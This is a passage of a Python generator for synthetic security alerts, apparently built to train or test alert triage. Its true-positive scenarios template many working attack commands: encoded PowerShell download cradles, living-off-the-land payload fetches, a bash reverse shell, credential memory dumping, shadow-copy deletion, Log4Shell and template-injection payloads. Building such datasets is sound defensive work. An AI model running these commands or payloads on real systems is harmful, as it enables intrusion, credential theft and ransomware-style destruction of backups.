    "(New-Object Net.WebClient).DownloadFile('{url}',\"$env:TEMP\\{name}.exe\");"
    'Start-Process "$env:TEMP\\{name}.exe"',
    "Start-BitsTransfer -Source '{url}' -Destination \"$env:APPDATA\\{name}.exe\";"
    '& "$env:APPDATA\\{name}.exe"',
)
ENCODED_FLAGS = (
    "-nop -w hidden -enc",
    "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand",
    "-noni -nop -w 1 -e",
    "-ExecutionPolicy Bypass -WindowStyle Hidden -ec",
    "-NoProfile -EncodedCommand",
)
POWERSHELL_LAUNCH = ("powershell.exe", "powershell", POWERSHELL, f'"{POWERSHELL}"')


def _office_parent(rng: Random, account: str) -> Parent:
    """An Office application opening a macro document from the user's Downloads."""
    app = rng.choice(("WINWORD.EXE", "EXCEL.EXE"))
    ext = "docm" if app == "WINWORD.EXE" else "xlsm"
    lure = rng.choice(("Invoice", "Order", "Resume", "Payment", "Remittance", "Statement"))
    doc = f"C:\\Users\\{account}\\Downloads\\{lure}_{rng.randint(1000, 99999)}.{ext}"
    return app, f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\{app}" /n "{doc}"'


def _attack_parent(rng: Random, account: str) -> Parent:
    """Where attacker commands come from: macros, scripts, WMI, scheduled tasks, a shell."""
    roll = rng.random()
    if roll < 0.35:
        return _office_parent(rng, account)
    if roll < 0.5:
        js = f"C:\\Users\\{account}\\Downloads\\{word(rng)}_{rng.randint(1, 999)}.js"
        return "wscript.exe", f'"C:\\Windows\\System32\\WScript.exe" "{js}"'
    return rng.choice((WMIPRVSE, SCHEDULER, CMD_PARENT, EXPLORER, ("mshta.exe", "mshta.exe")))


def _victim(rng: Random, site: Site) -> tuple[Host, str, str, Parent]:
    """(host, account, DOMAIN\\account, parent) of a user session an attacker runs under."""
    account = rng.choice(site.users)
    host = _host(rng, site, 0.15)
    return host, account, f"{site.netbios}\\{account}", _attack_parent(rng, account)


def encoded_powershell(rng: Random, site: Site) -> Built:
    """Base64 (UTF-16LE) PowerShell download cradle, as malware droppers launch it."""
    url = payload_url(rng, site, rng.choice(("ps1", "txt", "png", "gif", "exe", "dat")))
    script = rng.choice(CRADLES).format(url=url, ua=browser_ua(rng), name=word(rng))
    cmd = f"{rng.choice(POWERSHELL_LAUNCH)} {rng.choice(ENCODED_FLAGS)} {encode_powershell(script)}"
    host, _, user, parent = _victim(rng, site)
    return "Suspicious PowerShell Execution", _edr(rng, host, POWERSHELL, cmd, user, parent)


# ---- living-off-the-land binaries (TP) ----------------------------------------------------------


def lolbin(rng: Random, site: Site) -> Built:
    """certutil, mshta, rundll32 and regsvr32 fetching or running remote code."""
    host, account, user, parent = _victim(rng, site)
    drop = f"C:\\Users\\Public\\{word(rng)}.{rng.choice(('exe', 'dll', 'txt'))}"
    roll = rng.random()
    if roll < 0.35:
        cmd = rng.choice(
            (
                f"certutil.exe -urlcache -split -f {payload_url(rng, site, 'exe')} {drop}",
                f"certutil -urlcache -f {payload_url(rng, site, 'txt')} %TEMP%\\{word(rng)}.b64",
                f"certutil.exe -decode C:\\Users\\Public\\{hexs(rng, 6)}.txt {drop}",
            )
        )
        return "Suspicious Certutil Usage", _edr(
            rng, host, SYS32 + "certutil.exe", cmd, user, parent
        )
    if roll < 0.55:
        cmd = rng.choice(
            (
                f"mshta.exe {payload_url(rng, site, 'hta')}",
                'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop '
                f'-w hidden -c iex(iwr \'{payload_url(rng, site, "ps1")}\')"":close")',
            )
        )
        return PROXY_RULE, _edr(rng, host, SYS32 + "mshta.exe", cmd, user, parent)
    if roll < 0.8:
        cmd = rng.choice(
            (
                'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
                f'GetObject("script:{payload_url(rng, site, "sct")}")',
                f"rundll32.exe C:\\Users\\{account}\\AppData\\Local\\Temp\\"
                f"{hexs(rng, 8)}.dll,DllRegisterServer",
                f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
                f"{rng.randrange(500, 1200, 4)} C:\\Windows\\Temp\\{word(rng)}.dmp full",
            )
        )
        return PROXY_RULE, _edr(rng, host, SYS32 + "rundll32.exe", cmd, user, parent)
    cmd = f"regsvr32.exe /s /n /u /i:{payload_url(rng, site, 'sct')} scrobj.dll"
    return PROXY_RULE, _edr(rng, host, SYS32 + "regsvr32.exe", cmd, user, parent)


# ---- webshells (TP) -----------------------------------------------------------------------------

WINDOWS_RECON = (
    "whoami",
    "whoami /priv",
    "net user",
    "net localgroup administrators",
    "ipconfig /all",
    "systeminfo",
    "tasklist /v",
    'net group "domain admins" /domain',
    "quser",
    "netstat -ano",
)
LINUX_RECON = (
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /var/www",
    "ps aux",
    "ifconfig",
    "cat /proc/version",
    "find / -perm -4000 -type f 2>/dev/null",
)


def webshell(rng: Random, site: Site) -> Built:
    """Commands run through a webshell: the web server process spawns a shell doing recon."""
    if rng.random() < 0.5:
        recon = rng.choice(WINDOWS_RECON)
        cmd = rng.choice(
            (
                f"cmd.exe /c {recon}",
                f'cmd /c "cd /d C:\\inetpub\\wwwroot&{recon}&echo [S]&cd&echo [E]"',
                f"cmd.exe /c {recon} > C:\\inetpub\\wwwroot\\{hexs(rng, 4)}.txt",
            )
        )
        rule = (
            "Reconnaissance Command Execution" if rng.random() < 0.4 else "Web Server Spawned Shell"
        )
        pool = _iis_pool(rng)
        host = rng.choice(site.iis_servers)
        return rule, _edr(rng, host, CMD, cmd, f"IIS APPPOOL\\{pool}", _w3wp(rng, pool))
    parent = rng.choice(LINUX_WEB_PARENTS)
    recon = rng.choice(LINUX_RECON)
    tmp = f"/tmp/.{hexs(rng, 5)}"
    cmd = rng.choice(
        (
            f"/bin/sh -c {recon}",
            f"sh -c {recon}",
            f"/bin/sh -c wget -q {payload_url(rng, site, 'sh')} -O {tmp}; chmod +x {tmp}; {tmp}",
            f"/bin/bash -c bash -i >& /dev/tcp/{rng.choice(site.world.attackers)[0]}/"
            f"{rng.choice((443, 4444, 8443))} 0>&1",
        )
    )
    host, user = rng.choice(site.linux_web), LINUX_WEB_USERS[parent[0]]
    return "Web Server Spawned Shell", _edr(rng, host, "/bin/sh", cmd, user, parent)


# ---- ransomware preparation (TP) ----------------------------------------------------------------


def ransomware_prep(rng: Random, site: Site) -> Built:
    """Deleting shadow copies and backup catalogs before encryption."""
    host = _host(rng, site, 0.5)
    cmd = rng.choice(
        (
            "vssadmin.exe delete shadows /all /quiet",
            "vssadmin delete shadows /All /Quiet",
            "wmic.exe shadowcopy delete /nointeractive",
            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0",
        )
    )
    folder = rng.choice(("C:\\ProgramData", "C:\\Users\\Public", "C:\\Windows\\Temp"))
    dropper = f"{folder}\\{word(rng)}.exe"
    parent = rng.choice(
        (
            CMD_PARENT,
            (dropper.rsplit("\\", 1)[1], f'"{dropper}"'),
            ("powershell.exe", f"powershell.exe -nop -w hidden -c & '{dropper}'"),
        )
    )
    exe = SYS32 + cmd.split(maxsplit=1)[0].removesuffix(".exe") + ".exe"
    user = rng.choice((SYSTEM, _user(rng, site), f"{site.netbios}\\adm_{rng.choice(site.users)}"))
    return "Shadow Copy Manipulation", _edr(rng, host, exe, cmd, user, parent)


# ---- web attacks from the internet (TP) ---------------------------------------------------------


def web_injection(rng: Random, site: Site) -> Built:
    """SQL injection or path traversal from the internet that the application answered 200."""
    ip = rng.choice(site.world.attackers)[0]
    rule, crs, _, make = rng.choice(PROBES[:2])
    ua = browser_ua(rng) if rng.random() < 0.5 else rng.choice(C2_UAS[-3:])
    request = (rng.choice(("GET", "GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
    return rule, _waf(rng, site, ip, request, 200, crs)


def _log4j_callback(rng: Random, site: Site) -> str:
    """Attacker LDAP servers, often with a JNDIExploit base64 command in the path."""
    host = f"{rng.choice(site.world.attackers)[0]}:{rng.choice((389, 1389, 1099, 443))}"
    if rng.random() < 0.4:
        command = f"wget http://{rng.choice(site.world.payload_hosts)}/{word(rng)}.sh -O-|sh"
        return f"{host}/Basic/Command/Base64/{base64.b64encode(command.encode()).decode()}"
    return f"{host}/{rng.choice(('a', 'Exploit', 'o', hexs(rng, 6)))}"


def log4shell_waf(rng: Random, site: Site) -> Built:
    """Log4Shell exploitation from the internet in the user agent, URL or arguments."""
    ip, payload = rng.choice(site.world.attackers)[0], jndi(rng, _log4j_callback(rng, site))
    place = rng.random()
    uri = f"/{quote(payload, safe='')}" if place < 0.2 else web_path(rng)
    args = _args(rng, payload) if 0.2 <= place < 0.5 else ""
    ua = payload if place >= 0.5 else browser_ua(rng)
    status, request = rng.choice((200, 200, 404, 400, 302)), ("GET", uri, args, ua)
    return "Log4j JNDI Injection Attempt", _waf(rng, site, ip, request, status, "944150")


def log4shell_ids(rng: Random, site: Site) -> Built:
    """Log4Shell exploitation seen by the IDS in front of the web servers."""
    ip, payload = rng.choice(site.world.attackers)[0], jndi(rng, _log4j_callback(rng, site))
    in_url = rng.random() < 0.4
    url = f"/?{_args(rng, payload)}" if in_url else web_path(rng)
    ua = browser_ua(rng) if in_url else payload
    status = rng.choice((200, 404, 400, 302))
    http = _http(rng.choice(site.vhosts), url, ua, "GET", status, rng.randint(0, 9000))
    dest = (rng.choice(site.web_servers)[1], rng.choice((80, 443, 8080)))
    return _ids(rng, LOG4J_RULE, ip, dest, http, "web")


# ---- account compromise (TP) --------------------------------------------------------------------


def password_spray(rng: Random, site: Site) -> Built:
    """One password tried against many accounts from one external IP, until one works."""
    ip, country = rng.choice(site.world.attackers)
    service = rng.choice(("vpn", "owa", "sso"))
    method = "ntlm" if service == "owa" and rng.random() < 0.5 else "password"
    outcome = "success" if rng.random() < 0.85 else "failure"
    auth = (service, method, outcome, rng.randint(25, 500), rng.randint(12, 260))
    rule = "Password Spraying Detected" if rng.random() < 0.6 else "Brute Force Attempt"
    return rule, _auth(site, rng.choice(site.users), (ip, country), _target(rng, service), auth)


# ---- covert channels (TP) -----------------------------------------------------------------------


def dns_tunnel(rng: Random, site: Site) -> Built:
    """Data exfiltrated in long base32/hex labels under a rare domain, over TXT/NULL queries."""
    domain = rng.choice(site.world.tunnel_domains)
    if rng.random() < 0.6:
        data = "".join(rng.choices(BASE32, k=rng.randint(40, 150)))
    else:
        data = hexs(rng, rng.randint(30, 120))
    # DNS labels hold at most 63 characters, so tunnels split the payload into several.
    labels = ".".join(data[i : i + 63] for i in range(0, len(data), 63))
    dns = (
        "dns",
        {
            "rrname": f"{labels}.{domain}",
            "rrtype": rng.choice(("TXT", "TXT", "NULL", "CNAME", "MX")),
        },
    )
    return _ids(
        rng,
        LONG_DNS_RULE,
        _host(rng, site, 0.2)[1],
        (rng.choice(site.dns_servers)[1], 53),
        dns,
        "dns",
    )


BEACON_PATHS = (
    "/jquery-3.3.1.min.js",
    "/__utm.gif",
    "/submit.php",
    "/ga.js",
    "/pixel.gif",
    "/api/v1/{h}",
    "/updates/check",
    "/wp-content/{h}.php",
    "/{h}",
)


def c2_beacon(rng: Random, site: Site) -> Built:
    """Implant check-ins: TLS to random-looking domains with rare JA3, or small HTTP polls."""
    world, src = site.world, _host(rng, site, 0.2)[1]
    dest = (rng.choice(world.attackers)[0], rng.choice((443, 443, 8443, 80)))
    roll = rng.random()
    if roll < 0.6:
        ja3 = rng.choice(world.rare_ja3 if rng.random() < 0.8 else world.common_ja3)
        tls = (
            "tls",
            {
                "sni": rng.choice(world.c2_domains),
                "version": rng.choice(("TLS 1.2", "TLS 1.3")),
                "ja3": {"hash": ja3},
            },
        )
        return _ids(rng, TLS_RULE if rng.random() < 0.5 else JA3_RULE, src, dest, tls, "beacon")
    if roll < 0.85:
        path = rng.choice(BEACON_PATHS).format(h=hexs(rng, 16))
        url = f"{path}?id={rng.randint(10**5, 10**9)}" if rng.random() < 0.4 else path
        ua = rng.choice(C2_UAS) if rng.random() < 0.8 else f"Mozilla/5.0 ({hexs(rng, 8)})"
        http = _http(
            rng.choice(world.c2_domains),
            url,
            ua,
            rng.choice(("GET", "POST")),
            200,
            rng.randint(0, 512),
        )
        return _ids(rng, ODD_UA_RULE, src, dest, http, "beacon")
    host = rng.choice(world.payload_hosts).split(":")[0]
    http = _http(
        host,
        f"/{rng.choice((word(rng), hexs(rng, 8)))}.{rng.choice(('exe', 'bin', 'dll'))}",
        rng.choice(C2_UAS[3:]),
        "GET",
        200,
        rng.randint(90000, 4000000),
    )
    return _ids(rng, EXE_RULE, src, dest, http, "bulk")


# ---- drift, weeks 7-8 only ----------------------------------------------------------------------

RMM_SCRIPTS = (
    "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID,FreeSpace,Size "
    "| ConvertTo-Json -Compress",
    "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First {n} | ConvertTo-Json",
    "Get-Service -Name {w} -ErrorAction SilentlyContinue | Restart-Service -Force",
    "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | "
    "Select DisplayName,DisplayVersion | ConvertTo-Json -Compress",
    "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\{w}' -Name AutoUpdate -Value {n}",
    "Get-WinEvent -FilterHashtable @{LogName='System';Level=2} -MaxEvents {n} | ConvertTo-Json",
    "Clear-RecycleBin -Force -ErrorAction SilentlyContinue; Get-PSDrive C | ConvertTo-Json",
)


def rmm_agent_new(rng: Random, site: Site) -> Built:
    """A newly deployed RMM agent that runs its inventory scripts as -EncodedCommand (FP)."""
    script = (
        rng.choice(RMM_SCRIPTS).replace("{n}", str(rng.randint(3, 50))).replace("{w}", word(rng))
    )
    flags = "-NonInteractive -NoProfile -ExecutionPolicy Bypass -EncodedCommand"
    cmd = f"powershell.exe {flags} {encode_powershell(script)}"
    agent = (
        f"C:\\Program Files (x86)\\{site.tenant}-{rng.randint(100000, 999999)}\\NinjaRMMAgent.exe"
    )
    parent = ("NinjaRMMAgent.exe", f'"{agent}" -service')
    return "Suspicious PowerShell Execution", _edr(
        rng, _host(rng, site, 0.3), POWERSHELL, cmd, SYSTEM, parent
    )


def lolbin_download_new(rng: Random, site: Site) -> Built:
    """A new loader technique: msiexec or bitsadmin fetching a payload over HTTP (TP)."""
    host, account, user, parent = _victim(rng, site)
    if rng.random() < 0.55:
        cmd = rng.choice(
            (
                f"msiexec.exe /q /i {payload_url(rng, site, 'msi')}",
                f"msiexec /i {payload_url(rng, site, 'msi')} /quiet /qn /norestart",
            )
        )
        return PROXY_RULE, _edr(rng, host, SYS32 + "msiexec.exe", cmd, user, parent)
    job = rng.choice((word(rng), "update", "myjob", hexs(rng, 6)))
    url, drop = payload_url(rng, site, "exe"), f"C:\\Users\\Public\\{word(rng)}.exe"
    cmd = f"bitsadmin /transfer {job} /download /priority high {url} {drop}"
    return PROXY_RULE, _edr(rng, host, SYS32 + "bitsadmin.exe", cmd, user, parent)


def ssti_new(rng: Random, site: Site) -> Built:
    """Server-side template injection from the internet, answered 200 (TP)."""
    a, b = rng.randint(3, 99), rng.randint(3, 99)
    payload = rng.choice(
        (
            f"{{{{{a}*{b}}}}}",
            f"{{{{{a}*'{b}'}}}}",
            f"${{{a}*{b}}}",
            f"<%= {a}*{b} %>",
            f"#{{{a}*{b}}}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
        )
    )
    ip = rng.choice(site.world.attackers)[0]
    request = (rng.choice(("GET", "POST")), web_path(rng), _args(rng, payload), browser_ua(rng))
    return "Remote Code Execution Attempt", _waf(rng, site, ip, request, 200, "934100")


# ---- the weighted table -------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Scenario:
    """A cause of alerts: how to draw one, its true verdict, how often, and at what times."""

    name: str
    source: str
    verdict: str
    weight: float
    build: Callable[[Random, Site], Built]
    profile: str = "flat"
    drift: bool = False  # only in the last two weeks
    # Normalized fields (conf/data/synthetic.yaml) that carry the decisive evidence for the
    # verdict: what a faithful reason should name (evidence recall, assess.faithfulness).
    evidence: tuple[str, ...] = ()


# Weights are relative and each time profile averages about 1 over a week. Weights are
# normalised per hour, so off-hours lean towards the (flat) attacks: true false-positive
# share is about 85%, about 83% once label noise has flipped some verdicts.
SCENARIOS: tuple[Scenario, ...] = (
    Scenario("scanner_waf", "waf", FP, 8, scanner_waf, evidence=("src_ip", "user_agent")),
    Scenario("scanner_ids", "ids", FP, 5, scanner_ids, evidence=("src_ip", "user_agent")),
    Scenario(
        "patch_edr",
        "edr",
        FP,
        5,
        patch_edr,
        "patch",
        evidence=("command_line", "parent_process", "process_path"),
    ),
    Scenario(
        "patch_ids", "ids", FP, 3, patch_ids, "patch", evidence=("url", "user_agent", "http_host")
    ),
    Scenario(
        "backup_job",
        "edr",
        FP,
        5,
        backup_job,
        "night",
        evidence=("command_line", "parent_process", "user"),
    ),
    Scenario(
        "admin_script",
        "edr",
        FP,
        8,
        admin_script,
        "business",
        evidence=("command_line", "parent_process", "user"),
    ),
    Scenario("webapp_helper", "edr", FP, 2, webapp_helper, evidence=("command_line",)),
    Scenario(
        "monitoring_waf", "waf", FP, 4, monitoring_waf, evidence=("user_agent", "url", "src_ip")
    ),
    Scenario(
        "monitoring_ids", "ids", FP, 3, monitoring_ids, evidence=("user_agent", "url", "src_ip")
    ),
    Scenario("saas_tls", "ids", FP, 3, saas_tls, "business", evidence=("tls_sni", "ja3")),
    Scenario(
        "av_reputation_dns", "ids", FP, 3, av_reputation_dns, "business", evidence=("dns_query",)
    ),
    Scenario(
        "dev_tools_ids",
        "ids",
        FP,
        2.5,
        dev_tools_ids,
        "business",
        evidence=("user_agent", "http_host", "src_ip"),
    ),
    Scenario(
        "dev_tools_waf",
        "waf",
        FP,
        2,
        dev_tools_waf,
        "business",
        evidence=("user_agent", "http_host", "src_ip"),
    ),
    Scenario(
        "dev_tools_edr",
        "edr",
        FP,
        1.5,
        dev_tools_edr,
        "business",
        evidence=("command_line", "process_path", "host"),
    ),
    Scenario("benign_waf_trigger", "waf", FP, 4, benign_waf_trigger, evidence=("query_args",)),
    Scenario(
        "password_typo",
        "auth",
        FP,
        8,
        password_typo,
        "business",
        evidence=("failed_logins", "distinct_users", "auth_outcome"),
    ),
    Scenario(
        "expired_service_account",
        "auth",
        FP,
        4,
        expired_service_account,
        evidence=("user", "failed_logins"),
    ),
    Scenario(
        "internet_ssh_noise",
        "auth",
        FP,
        3,
        internet_ssh_noise,
        evidence=("auth_service", "auth_outcome", "user"),
    ),
    Scenario(
        "encoded_powershell",
        "edr",
        TP,
        1.9,
        encoded_powershell,
        evidence=("command_line", "parent_process"),
    ),
    Scenario("lolbin", "edr", TP, 1.5, lolbin, evidence=("command_line",)),
    Scenario("webshell", "edr", TP, 1.1, webshell, evidence=("parent_process", "command_line")),
    Scenario(
        "ransomware_prep",
        "edr",
        TP,
        0.45,
        ransomware_prep,
        "offhours",
        evidence=("command_line", "parent_process"),
    ),
    Scenario(
        "web_injection",
        "waf",
        TP,
        1.9,
        web_injection,
        evidence=("query_args", "http_status", "src_ip"),
    ),
    Scenario(
        "log4shell_waf", "waf", TP, 1.0, log4shell_waf, evidence=("user_agent", "url", "query_args")
    ),
    Scenario("log4shell_ids", "ids", TP, 0.7, log4shell_ids, evidence=("user_agent", "url")),
    Scenario(
        "password_spray",
        "auth",
        TP,
        1.0,
        password_spray,
        evidence=("distinct_users", "auth_outcome", "src_ip"),
    ),
    Scenario("dns_tunnel", "ids", TP, 0.8, dns_tunnel, evidence=("dns_query", "dns_type")),
    Scenario(
        "c2_beacon",
        "ids",
        TP,
        1.2,
        c2_beacon,
        evidence=("tls_sni", "ja3", "http_host", "user_agent", "dest_ip"),
    ),
    Scenario(
        "rmm_agent_new",
        "edr",
        FP,
        4,
        rmm_agent_new,
        drift=True,
        evidence=("parent_process", "command_line"),
    ),
    Scenario(
        "lolbin_download_new",
        "edr",
        TP,
        0.9,
        lolbin_download_new,
        drift=True,
        evidence=("command_line",),
    ),
    Scenario("ssti_new", "waf", TP, 0.9, ssti_new, drift=True, evidence=("query_args",)),
)
DRIFT_SCENARIOS: tuple[str, ...] = tuple(s.name for s in SCENARIOS if s.drift)
# Patch Tuesday: updates land Tuesday and Wednesday, stragglers later, little at weekends.
PATCH_DAY_WEIGHT = (0.6, 2.5, 2.5, 0.6, 0.6, 0.2, 0.2)


def time_weight(profile: str, hour: int, weekday: int) -> float:
    """Multiplier on a scenario's weight at this UTC hour and weekday (0 = Monday)."""
    office = weekday < 5 and 8 <= hour <= 18
    if profile == "business":
        return 2.2 if office else 0.42
    if profile == "offhours":
        return 0.3 if office else 1.34
    if profile == "night":  # backup windows, 00:00-04:59
        return 4.8 if hour <= 4 else 0.0
    if profile == "patch":
        return PATCH_DAY_WEIGHT[weekday]
    return 1.0
